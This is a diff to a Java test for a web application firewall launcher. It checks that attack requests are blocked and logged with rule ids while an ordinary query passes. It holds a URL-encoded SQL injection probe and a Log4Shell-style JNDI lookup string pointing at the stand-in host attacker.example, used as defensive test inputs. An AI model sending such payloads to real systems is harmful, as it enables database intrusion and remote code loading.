@@ -472,6 +472,10 @@ class LauncherTest {
         BufferedReader out = new BufferedReader(new InputStreamReader(process.getInputStream(), StandardCharsets.UTF_8));
         try {
             URI base = URI.create("http://127.0.0.1:" + announcedPort(out));
+            List<String> output = new java.util.concurrent.CopyOnWriteArrayList<>();
+            Thread reader = new Thread(() -> out.lines().forEach(output::add));
+            reader.setDaemon(true);
+            reader.start();
             HttpResponse<String> attack = Http.get(base, "/search?q=%27%20OR%20%271%27%3D%271");
             assertThat(attack.statusCode()).isEqualTo(403);
             assertThat(attack.body()).isEqualTo("403 Forbidden\nrequest blocked\n");
@@ -480,6 +484,10 @@ class LauncherTest {
             HttpResponse<String> ordinary = Http.get(base, "/search?q=O%27Brien");
             assertThat(ordinary.statusCode()).isEqualTo(200);
             assertThat(ordinary.body()).contains("api got GET /search");
+            // every match, once per request, with its rule id, score and the part it matched in
+            assertThat(awaitLine(output, "waf blocked GET /search request=")).contains("sqli-110 +5 query:q \"' or '1'=\"");
+            assertThat(awaitLine(output, "waf blocked GET /x request="))
+                    .contains("lookup-100 +5 header:User-Agent \"${jndi:ldap://attacker.example/a}\"");
         } finally {
             process.destroy();
             assertThat(process.waitFor(30, TimeUnit.SECONDS)).isTrue();
